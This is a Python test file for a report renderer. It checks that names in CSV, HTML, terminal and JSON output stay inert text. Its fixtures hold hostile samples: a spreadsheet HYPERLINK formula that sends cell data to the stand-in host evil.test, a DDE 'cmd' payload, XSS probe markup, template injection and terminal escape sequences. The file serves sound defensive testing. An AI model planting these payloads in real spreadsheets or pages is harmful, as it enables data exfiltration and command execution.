"""Names are foreign text: no spreadsheet, terminal or browser takes them for anything else."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from stores import an_ambassador

from relay.reports import render
from relay.reports.make import History, Program, compose
from relay.reports.overview import HEIGHT, WIDTH
from relay.reports.sheets import cell
from relay.reports.tables import width
from relay.reports.values import By, Period, Report
from relay.reports.wording import plain
from storage.columns import micros
from storage.counts import Count
from storage.records.events import EventKind
from storage.referrals import Hires
from storage.stories import Story

UNTIL = datetime(2026, 3, 2, tzinfo=UTC)
PERIOD = Period(UNTIL - timedelta(days=28), UNTIL)
NOBODY = Hires(UNTIL, 0)

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    " =1+1",
    "x;=1+1",
    "＝1+1",
]
MARKUP = [
    "<xss-probe onmouseover=alert(1)>",
    '"><xss-probe a="',
    "'><xss-probe b='",
    "</td></table></style><xss-probe>",
    "</svg></title><xss-probe>",
    "<!--<xss-probe>",
    "&lt;xss-probe&gt;",
    "{{7*7}}{% raw %}",
]
CONTROLS = [
    "\x1b[31mred\x1b]0;title\x07",
    "a\u202eb",
    "a\u2028b\x85c",
    "a\x00b\x9bc",
    "\u200bx\ufeff",
]


def reported(name: str, by: By = By.AMBASSADOR) -> Report:
    """Everything that can carry foreign text carries this one."""
    person = replace(an_ambassador("alex"), display_name=name, role=name, topics=(name,))
    opened = micros(PERIOD.since)
    told = [Story(opened, "forwarded", person.id, source=name, reached=opened, answered=opened + 9)]
    counts = [Count(EventKind.HELD, 7, person.id, {"rules": name})]
    program = Program({person.id: person}, Counter(), lambda _: lambda start, end: end - start)
    before = History(PERIOD.before(), [], [], NOBODY)
    return compose(History(PERIOD, told * 7, counts, NOBODY), before, program, by, UNTIL)


@pytest.mark.parametrize("by", By)
@pytest.mark.parametrize("name", [*FORMULAS, *MARKUP, *CONTROLS])
def test_no_cell_of_the_csv_begins_with_a_formula(name, by):
    rows = list(csv.reader(io.StringIO(render.csv(reported(name, by)), newline="")))
    assert len(rows) > 50
    assert len({len(row) for row in rows}) == 1
    for text in (text for row in rows for text in row):
        assert not text.lstrip().startswith(("=", "+", "-", "@", "＝")), text
        assert text.isprintable() or text == "", text


@given(st.text(max_size=30))
@settings(max_examples=200, deadline=None)
def test_no_text_at_all_makes_a_formula(text):
    safe = cell(text)
    for separator in ("\t", ";", "\n", "\r"):
        for part in safe.split(separator):
            assert not part.strip().startswith(("=", "+", "-", "@"))


def test_harmless_text_stays_as_it_is():
    for text in (
        "Alex Chen",
        "Zoë Müller-Lüdenscheidt",
        "محمد الأنصاري",
        "李小龍",
        "O'Neil",
        "a=b",
        "",
    ):
        assert cell(text) == plain(text) == text


@pytest.mark.parametrize("by", By)
@pytest.mark.parametrize("name", [*MARKUP, *FORMULAS, *CONTROLS])
def test_no_name_becomes_markup(name, by):
    seen = Markup()
    page = render.html(reported(name, by))
    seen.feed(page)
    assert "h1" in seen.tags
    assert not [
        tag for tag in seen.tags if "probe" in tag or tag.startswith("on") or tag == "script"
    ]
    assert "{{7*7}}" in page or "{{" not in name


class Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags += [tag, *(name for name, _ in attrs)]


@pytest.mark.parametrize("name", [*CONTROLS, *MARKUP])
def test_the_table_prints_nothing_that_a_terminal_would_obey(name):
    for line in render.table(reported(name)).split("\n"):
        assert line.isprintable(), line


@given(st.text(max_size=20))
@settings(max_examples=200, deadline=None)
def test_what_is_plain_shows_in_one_line(text):
    shown = plain(text)
    assert len(shown.splitlines()) <= 1
    assert all(each.isprintable() or each in "\u200c\u200d" or each.isspace() for each in shown)


def test_a_hidden_character_is_named():
    assert plain("a\u202eb\x1b[2J") == "a<U+202E>b<U+001B>[2J"


def test_the_columns_of_the_table_stand_below_each_other_also_for_wide_letters():
    lines = render.table(reported("李小龍")).split("\n")
    start = lines.index("By ambassador")
    row = next(line for line in lines[start:] if "李小龍" in line)
    last = lines[lines.index(row) - 1]
    assert len(last) == len(row) + 3  # three letters of two columns each


def test_a_name_of_any_length_is_cut_in_the_table_and_whole_in_json():
    name = "x" * 500
    assert max(map(len, render.table(reported(name)).split("\n"))) < 320
    document = json.loads(render.json(reported(name)))
    assert document["by_ambassador"][0]["label"] == name


def test_json_has_the_same_figures_as_the_report():
    report = reported("Alex")
    document = json.loads(render.json(report))
    for section in report.sections:
        for line in section.lines:
            found = document["sections"][section.key][line.now.key]
            assert (found["value"], found["n"]) == (line.now.value, line.now.n)
    assert document["until"] == "2026-03-02T00:00:00+00:00"


def test_html_is_one_file_without_scripts_or_remote_parts():
    page = render.html(reported("Alex"))
    assert "<script" not in page
    assert "http-equiv" in page
    for reference in ("src=", "@import", "url(h", "http://", "https://"):
        assert reference not in page, reference


@pytest.mark.parametrize("name", [*CONTROLS, "李小龍" * 40, "A" * 120, "أمين " * 24])
@pytest.mark.parametrize("number", [1, 12, 200])
def test_the_overview_fits_a_screen_and_is_as_safe_as_the_table(number: int, name: str) -> None:
    people = [
        replace(an_ambassador(f"alex{each}"), display_name=f"{name} {each}")
        for each in range(number)
    ]
    opened = micros(PERIOD.since)
    told = [
        Story(opened, "forwarded", one.id, reached=opened, answered=opened + 9)
        for one in people
        for _ in range(3 if one is people[-1] else 7)
    ]
    program = Program(
        {one.id: one for one in people}, Counter(), lambda _: lambda start, end: end - start
    )
    before = History(PERIOD.before(), [], [], NOBODY)
    made = compose(History(PERIOD, told, [], NOBODY), before, program, By.AMBASSADOR, UNTIL)
    lines = render.overview(made).rstrip("\n").split("\n")
    assert len(lines) <= HEIGHT
    assert max(map(width, lines)) <= WIDTH
    assert all(line.isprintable() for line in lines)
